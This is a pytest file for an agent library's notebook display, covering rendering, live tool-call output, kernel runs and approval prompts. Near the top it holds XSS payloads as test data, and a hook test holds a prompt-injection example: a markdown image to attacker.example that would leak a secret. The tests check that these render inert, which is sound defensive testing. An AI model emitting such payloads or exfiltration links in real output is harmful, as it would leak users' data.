"""The notebook display: static renderings of a conversation, the live display fed by events, and the example
notebook executed headless on a real kernel."""

from __future__ import annotations

import base64
import html
import json
import logging
import re
import struct
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from examples.weather import get_weather
from functionary_agent import Conversation, ModelError
from functionary_agent._display import display_hook
from functionary_agent._run.interpreter import PythonTool
from functionary_agent.events import FinalAnswer, TextDelta, ToolCallArgumentsDelta, ToolCallStarted, ToolResult
from functionary_agent.notebook import (
    LiveDisplay,
    NotebookDisplay,
    image_resolver,
    render_html,
    render_markdown,
    submit_with_display,
)
from functionary_agent.testing import ScriptedModel, call

ROOT = Path(__file__).resolve().parents[1]
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a>'


class _Tags(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def _parse(markup: str) -> _Tags:
    parser = _Tags()
    parser.feed(markup)
    return parser


def _assert_inert(markup: str) -> None:
    parsed = _parse(markup)
    assert "script" not in parsed.tags and "a" not in parsed.tags
    assert not [name for name, _ in parsed.attributes if name.startswith("on")]
    assert not [value for name, value in parsed.attributes if name == "src" and not value.startswith("data:image/")]


def _weather_chat(*replies: Any) -> Conversation:
    return Conversation(ScriptedModel(list(replies)), tools=[get_weather])


# -- static rendering ---------------------------------------------------------------------------------------
def test_render_html_escapes_tool_results_arguments_and_text() -> None:
    messages = [
        {"role": "user", "content": f"Is this safe? {HOSTILE}"},
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "c1", "type": "function",
                         "function": {"name": "fetch", "arguments": json.dumps({"url": HOSTILE})}}]},
        {"role": "tool", "tool_call_id": "c1", "name": "fetch", "content": HOSTILE},
        {"role": "assistant", "content": f"The page says {HOSTILE} and **nothing else**."},
    ]
    out = render_html(messages)
    _assert_inert(out)
    assert html.escape(HOSTILE) in out  # the tool's result is shown, as text
    assert "<strong>nothing else</strong>" in out  # while the model's Markdown is still rendered


def test_render_markdown_keeps_tool_output_inside_its_code_block() -> None:
    from markdown_it import MarkdownIt

    tricky = "````\n# not a heading\n" + HOSTILE + "\n```"
    messages = [
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "echo", "arguments": '{"q": "`x`"}'}}]},
        {"role": "tool", "tool_call_id": "c1", "name": "echo", "content": tricky},
    ]
    tokens = MarkdownIt("commonmark").parse(render_markdown(messages))  # raw HTML on: any would be found
    assert [t.content for t in tokens if t.type == "fence"] == [tricky + "\n"]
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    assert not [t for t in tokens if t.type == "heading_open"]
    inline = [child.content for t in tokens if t.children for child in t.children if child.type == "code_inline"]
    assert '{"q": "`x`"}' in inline


def test_static_renderings_follow_the_conversation_and_mark_errors() -> None:
    chat = _weather_chat(
        {"content": "Checking.", "tool_calls": [call("get_weather", {"location": "Oslo", "unit": "kelvin"})]},
        {"tool_calls": [call("get_weather", {"location": "Oslo"})]},
        "Oslo: **cold**.",
    )
    chat.messages.insert(0, {"role": "system", "content": "Be brief."})
    chat.submit("Weather in Oslo?")
    page = render_html(chat.messages)
    order = ["fa-system", "Weather in Oslo?", "Checking.", "fa-tool fa-error", "fa-tool fa-ok", "<strong>cold</strong>"]
    positions = [page.index(marker) for marker in order]
    assert positions == sorted(positions)
    assert page.count("fa-tool") == 2
    oslo = get_weather("Oslo")
    assert f"&quot;temperature&quot;:{oslo['temperature']}" in page  # the real result sits in its block
    text = render_markdown(chat.messages)
    assert "✗ **`get_weather`**" in text and "Error: invalid arguments for get_weather" in text
    assert text.index("**You**") < text.index("✗") < text.index("✓") < text.index("Oslo: **cold**.")


class _FakeSandbox:
    def __init__(self, workdir: Path) -> None:
        self.workdir = workdir
        self.data_path = "/mnt/data"


def _interpreter_chat(workdir: Path) -> Conversation:
    tool = PythonTool(_FakeSandbox(workdir), owns_sandbox=False)  # type: ignore[arg-type]
    return Conversation(ScriptedModel([]), tools=[tool])


def test_interpreter_images_are_embedded_only_from_the_sandbox_workdir(tmp_path: Path) -> None:
    workdir = tmp_path / "work"
    workdir.mkdir()
    (workdir / "image-1.png").write_bytes(PNG)
    (tmp_path / "secret.png").write_bytes(b"\x89PNG not yours")
    (workdir / "notes.txt").write_text("not an image")
    resolve = image_resolver(_interpreter_chat(workdir))
    assert resolve("/mnt/data/image-1.png") == (workdir / "image-1.png").resolve()
    assert resolve("/mnt/data/../secret.png") is None
    assert resolve(str(tmp_path / "secret.png")) is None
    lines = ["/mnt/data/image-1.png", "/mnt/data/../secret.png", "/mnt/data/notes.txt", "/mnt/data/gone.png"]
    messages = [
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "p1", "type": "function",
                         "function": {"name": "python", "arguments": '{"code": "x"}'}}]},
        {"role": "tool", "tool_call_id": "p1", "name": "python",
         "content": "\n".join(f"[image saved: {line}]" for line in lines)},
    ]
    embedded = re.findall(r'src="data:([^;]+);base64,([^"]+)"', render_html(messages, resolve_image=resolve))
    assert [(mime, base64.b64decode(data)) for mime, data in embedded] == [("image/png", PNG)]
    assert "src=" not in render_html(messages)  # no resolver: the paths stay text
    assert "[image saved: /mnt/data/image-1.png]" in render_markdown(messages)


# -- the live display ---------------------------------------------------------------------------------------
class _Screen:
    """A stand-in for IPython display handles: each display is the list of bundles it showed, in order."""

    def __init__(self) -> None:
        self.displays: list[list[dict[str, str]]] = []

    def show(self, bundle: dict[str, str]) -> Any:
        shown = [bundle]
        self.displays.append(shown)
        return shown.append

    def final(self, mime: str = "text/html") -> list[str]:
        return [shown[-1][mime] for shown in self.displays]


def _live(screen: _Screen, **options: Any) -> LiveDisplay:
    return LiveDisplay(show=screen.show, **{"min_interval": 0.0, **options})


def test_live_display_matches_results_to_their_calls_in_completion_order() -> None:
    screen = _Screen()
    live = _live(screen)
    events = [
        TextDelta("Let me "), TextDelta("check *both*."),
        ToolCallStarted(0, "a", "get_weather"), ToolCallArgumentsDelta(0, "a", '{"location": "Lima"}'),
        ToolCallStarted(1, "b", "get_weather"), ToolCallArgumentsDelta(1, "b", '{"location": "Kyiv"}'),
        ToolResult("b", "get_weather", '{"location": "Kyiv"}', "KYIV-RESULT", duration=0.25),
        ToolResult("a", "get_weather", '{"location": "Lima"}', "LIMA-RESULT", duration=1.5),
        TextDelta("Both "), TextDelta("done."), FinalAnswer("Both done."),
    ]
    for event in events:
        live.handle(event)
    text_a, call_a, call_b, text_b = screen.displays
    assert call_a[0]["text/plain"].startswith("⏳ get_weather")  # shown as running before any result
    assert "LIMA-RESULT" in call_a[-1]["text/html"] and "KYIV-RESULT" not in call_a[-1]["text/html"]
    assert "KYIV-RESULT" in call_b[-1]["text/html"] and "250 ms" in call_b[-1]["text/html"]
    assert 'class="fa-tool fa-ok"' in call_a[-1]["text/html"] and "1.50 s" in call_a[-1]["text/html"]
    assert text_a[-1]["text/markdown"] == "Let me check *both*."
    assert "<em>both</em>" in text_a[-1]["text/html"]
    assert text_b[-1]["text/markdown"] == "Both done." and live.answer == "Both done."


def test_live_display_says_a_cut_answer_was_cut() -> None:
    screen = _Screen()
    live = _live(screen)
    live.handle(TextDelta("The capital of Fra"))
    live.handle(FinalAnswer("The capital of Fra", finish_reason="length", truncated=True))
    text, note = screen.displays
    assert text[-1]["text/markdown"] == "The capital of Fra"
    assert "Cut short (finish_reason=length)" in note[-1]["text/plain"] and "fa-truncated" in note[-1]["text/html"]
    whole = _Screen()
    _live(whole).handle(FinalAnswer("Paris.", finish_reason="stop"))
    assert len(whole.displays) == 1  # an answer that was not cut gets no note


def test_live_display_merges_fast_updates_but_ends_complete() -> None:
    now = [0.0]
    screen = _Screen()
    live = _live(screen, min_interval=0.1, clock=lambda: now[0])
    words = [f"word{i} " for i in range(200)]
    for word in words:
        now[0] += 0.001  # 200 deltas in 0.2 s of stream
        live.handle(TextDelta(word))
    live.handle(FinalAnswer("".join(words)))
    (text,) = screen.displays
    assert len(text) <= 4  # the first show, about one update per 0.1 s, and the final flush
    assert text[-1]["text/markdown"] == "".join(words)


def test_live_display_marks_errors_and_a_failed_run() -> None:
    screen = _Screen()
    live = _live(screen)
    live.handle(ToolCallStarted(0, "a", "get_weather"))
    live.handle(ToolCallStarted(1, "b", "slow_tool"))
    live.handle(ToolResult("a", "get_weather", "{}", "Error: get_weather raised ValueError: <no city>", is_error=True))
    live.fail(ModelError("the server went away"))
    failed_call, cut_call, box = screen.final()
    assert 'class="fa-tool fa-error"' in failed_call and "✗" in failed_call
    assert "Error: get_weather raised ValueError: &lt;no city&gt;" in failed_call  # visible in the summary line
    assert 'class="fa-tool fa-cancelled"' in cut_call
    assert "fa-failure" in box and "ModelError: the server went away" in box
    assert screen.displays[2][-1]["text/plain"] == "✗ ModelError: the server went away"
    stopped = _Screen()
    _live(stopped).fail(KeyboardInterrupt())
    assert stopped.final("text/plain") == ["⏹ Interrupted: the run was stopped."]


def test_live_display_pairs_calls_by_name_when_the_stream_has_no_ids() -> None:
    screen = _Screen()
    live = _live(screen)
    live.handle(ToolCallStarted(0, "", "get_weather"))
    live.handle(ToolCallStarted(1, "", "get_time"))
    live.handle(ToolResult("call_x", "get_time", "{}", "TIME"))
    live.handle(ToolResult("call_y", "get_weather", "{}", "WEATHER"))
    live.handle(FinalAnswer("ok"))  # a model that did not stream its text still shows its answer
    weather, time_, _ = screen.final()
    assert "WEATHER" in weather and "TIME" in time_
    assert screen.displays[2][-1]["text/markdown"] == "ok"


def test_live_display_shows_interpreter_images(tmp_path: Path) -> None:
    (tmp_path / "image-1.png").write_bytes(PNG)
    screen = _Screen()
    live = _live(screen, resolve_image=lambda visible: tmp_path / Path(visible).name)
    live.handle(ToolCallStarted(0, "p", "python"))
    live.handle(ToolCallArgumentsDelta(0, "p", json.dumps({"code": "plt.plot([1, 2])"})))
    live.handle(ToolResult("p", "python", '{"code": "plt.plot([1, 2])"}', "[image saved: /mnt/data/image-1.png]"))
    (block,) = screen.final()
    assert "plt.plot([1, 2])" in block
    (data,) = re.findall(r'<img class="fa-image" src="data:image/png;base64,([^"]+)"', block)
    assert base64.b64decode(data) == PNG


def test_submit_with_display_without_ipython_runs_and_warns(caplog: pytest.LogCaptureFixture) -> None:
    chat = _weather_chat({"tool_calls": [call("get_weather", {"location": "Lima"})]}, "Lima is fine.")
    with caplog.at_level(logging.WARNING, logger="functionary_agent.notebook"):
        answer = submit_with_display(chat, "Lima?")
    assert answer == "Lima is fine."
    assert [m["role"] for m in chat.messages] == ["user", "assistant", "tool", "assistant"]
    assert "no IPython shell" in caplog.text


def test_plain_python_and_terminal_ipython_are_not_notebooks() -> None:
    code = (
        "import sys\nimport functionary_agent, functionary_agent.notebook as nb\n"
        "print(nb.in_notebook(), [m for m in ('IPython', 'markdown_it') if m in sys.modules])"
    )
    plain = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert plain.stdout.strip() == "False []", plain.stderr
    terminal = subprocess.run(
        [sys.executable, "-m", "IPython", "--quick", "--no-banner", "-c",
         "from functionary_agent.notebook import in_notebook; print('in_notebook', in_notebook())"],
        capture_output=True, text=True, timeout=60, cwd=ROOT,
    )
    assert "in_notebook False" in terminal.stdout, terminal.stderr


# -- the hook the core calls ---------------------------------------------------------------------------------
def test_plain_python_loads_no_notebook_until_asked_and_importing_it_registers_the_hook() -> None:
    code = (
        "import sys\nimport functionary_agent\nfrom functionary_agent._display import display_hook\n"
        "print('functionary_agent.notebook' in sys.modules, display_hook())\n"
        "import functionary_agent.notebook\n"
        "print(type(display_hook()).__name__, 'IPython' in sys.modules)"
    )
    plain = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert plain.stdout.split("\n")[:2] == ["False None", "NotebookDisplay False"], plain.stderr


def test_the_hook_runs_and_renders_as_the_notebook_does(caplog: pytest.LogCaptureFixture) -> None:
    """What `Conversation` reaches through the hook is the guarded rendering: model text that writes a tag and a
    remote image (a prompt injection's way to leak the chat) shows neither as markup."""
    hook = display_hook()
    assert isinstance(hook, NotebookDisplay)
    hostile = "Lima is <b>fine</b> ![x](https://attacker.example/?q=secret)"
    chat = _weather_chat({"tool_calls": [call("get_weather", {"location": "Lima"})]}, hostile)
    with caplog.at_level(logging.WARNING, logger="functionary_agent.notebook"):
        assert hook.submit(chat, "Lima?") == hostile
    assert "no IPython shell" in caplog.text and not hook.in_notebook()
    page = hook.html(chat)
    assert page == render_html(chat.messages) and "<b>" not in page and "<img" not in page
    assert hook.markdown(chat) == render_markdown(chat.messages)
    assert "\\<b>" in hook.markdown(chat) and "!\\[x]" in hook.markdown(chat)


# -- on a real kernel ---------------------------------------------------------------------------------------
def _execute(notebook: Any, cwd: Path) -> Any:
    nbclient = pytest.importorskip("nbclient")
    nbclient.NotebookClient(notebook, timeout=180, kernel_name="python3",
                            resources={"metadata": {"path": str(cwd)}}).execute()
    return notebook


def _tagged(notebook: Any, tag: str) -> Any:
    (cell,) = [cell for cell in notebook.cells if tag in cell.metadata.get("tags", [])]
    return cell


def _shown(cell: Any, mime: str) -> list[str]:
    return [out["data"][mime] for out in cell.outputs if out["output_type"] == "display_data" and mime in out["data"]]


def test_in_a_kernel_the_display_is_live_and_the_answer_is_not_echoed_twice() -> None:
    nbformat = pytest.importorskip("nbformat")
    example = nbformat.read(ROOT / "examples" / "notebook.ipynb", as_version=4)
    imports = [cell.source for cell in example.cells if cell.cell_type == "code"][:2]  # works from the root too
    setup = (
        "from functionary_agent.notebook import in_notebook, submit_with_display\n"
        "chat = Conversation(ScriptedModel(['First **answer**.', 'Second.']), tools=[get_weather])\n"
        "in_notebook()"
    )
    cells = [*imports, setup, "answer = submit_with_display(chat, 'one')", "submit_with_display(chat, 'two')",
             "answer"]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in cells])
    first, assign, last, later = _execute(notebook, ROOT).cells[2:]
    assert first.outputs[0]["data"]["text/plain"] == "True"
    assert _shown(assign, "text/markdown") == ["First **answer**."]
    assert "<strong>answer</strong>" in _shown(assign, "text/html")[0]
    assert _shown(last, "text/markdown") == ["Second."]
    assert [out["output_type"] for out in last.outputs] == ["display_data"]  # no Out[] repeating the answer
    assert _shown(later, "text/plain") == ["'First **answer**.'"]  # a later cell still shows the value


def test_example_notebook_runs_headless_and_shows_the_run() -> None:
    nbformat = pytest.importorskip("nbformat")
    notebook = _execute(nbformat.read(ROOT / "examples" / "notebook.ipynb", as_version=4), ROOT / "examples")

    weather = _tagged(notebook, "weather")
    assert not [out for out in weather.outputs if out["output_type"] == "execute_result"]  # shown once, live
    blocks = [block for block in _shown(weather, "text/html") if "fa-tool" in block]
    assert len(blocks) == 2 and all('class="fa-tool fa-ok"' in block for block in blocks)
    for city, block in zip(("Istanbul", "Hanoi"), blocks, strict=True):
        assert f'"temperature":{get_weather(city)["temperature"]}' in html.unescape(block)
    answer = _shown(weather, "text/markdown")[-1]
    assert answer.startswith("| City |") and "<table>" in _shown(weather, "text/html")[-1]

    errors = [block for block in _shown(_tagged(notebook, "tool-error"), "text/html") if "fa-tool" in block]
    assert 'class="fa-tool fa-error"' in errors[0] and "kelvin" in errors[0] and "✗" in errors[0]
    assert 'class="fa-tool fa-ok"' in errors[1]

    (image,) = [m for block in _shown(_tagged(notebook, "interpreter"), "text/html")
                for m in re.findall(r'src="data:image/png;base64,([^"]+)"', block)]
    png = base64.b64decode(image)
    width, height = struct.unpack(">II", png[16:24])  # the IHDR chunk: a real figure, not a placeholder
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and width > 100 and height > 100

    static = _tagged(notebook, "static").outputs[0]["data"]
    assert static["text/html"].count('class="fa-tool') == 5 and static["text/html"].count("fa-tool fa-error") == 1
    assert "data:image/png;base64," in static["text/html"]
    assert static["text/markdown"].startswith("**You**\n\nWhat is the weather in Istanbul and in Hanoi?")

    restored = _tagged(notebook, "save-load").outputs[0]["text"]
    assert restored.startswith("15 messages restored") and "Istanbul is the warmest" in restored
    assert _shown(_tagged(notebook, "continue"), "text/markdown") == ["You're welcome!"]


_APPROVAL_SETUP = """
from functionary_agent import ApprovalRequired, Conversation
from functionary_agent.testing import ScriptedModel, call
DELETED = []
def delete_file(path: str) -> str:
    DELETED.append(path)
    return "deleted " + path
chat = Conversation(ScriptedModel([{"tool_calls": [call("delete_file", {"path": "a.txt"}, id="call_del")]},
                                   "Deleted a.txt."]))
chat.register(delete_file, approve=True)
"""


def test_a_paused_run_shows_the_waiting_call_and_the_resume_line() -> None:
    nbformat = pytest.importorskip("nbformat")
    cells = [
        _APPROVAL_SETUP + "import functionary_agent.notebook.approvals as approvals\n"
        "approvals.widgets_available = lambda: False  # as without ipywidgets",
        "try:\n    chat.submit('Delete a.txt', display=True)\nexcept ApprovalRequired as paused:\n    print('paused')",
        "print(chat.resume({'call_del': True}), DELETED)",
    ]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in cells])
    _, paused, resumed = _execute(notebook, ROOT).cells
    (box,) = [text for text in _shown(paused, "text/plain") if "Waiting for your approval" in text]
    assert 'delete_file({"path": "a.txt"})' in box and 'chat.resume({"call_del": True})' in box
    assert "buttons" not in box
    assert [out["text"] for out in paused.outputs if out["output_type"] == "stream"] == ["paused\n"]
    assert resumed.outputs[0]["text"] == "Deleted a.txt. ['a.txt']\n"


def test_with_ipywidgets_the_buttons_answer_and_the_run_goes_on() -> None:
    nbformat = pytest.importorskip("nbformat")
    pytest.importorskip("ipywidgets")
    cells = [
        _APPROVAL_SETUP,
        "try:\n    chat.submit('Delete a.txt', display=True)\nexcept ApprovalRequired:\n    pass",
        "from functionary_agent.notebook.approvals import approval_panel\n"
        "panel = approval_panel(chat, chat.pending_approvals)\n"
        "row = panel.children[0]\n"
        "print(row.children[0].value)\n"
        "row.children[1].click()  # Run\n"
        "print(DELETED, chat.messages[-1]['content'], row.children[2].disabled)",
    ]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in cells])
    _, paused, clicked = _execute(notebook, ROOT).cells
    assert any("application/vnd.jupyter.widget-view+json" in out.get("data", {}) for out in paused.outputs)
    assert any("Answer with the buttons below" in text for text in _shown(paused, "text/plain"))
    printed = "".join(out.get("text", "") for out in clicked.outputs if out["output_type"] == "stream")
    assert printed == 'delete_file({"path": "a.txt"})\n[\'a.txt\'] Deleted a.txt. True\n'
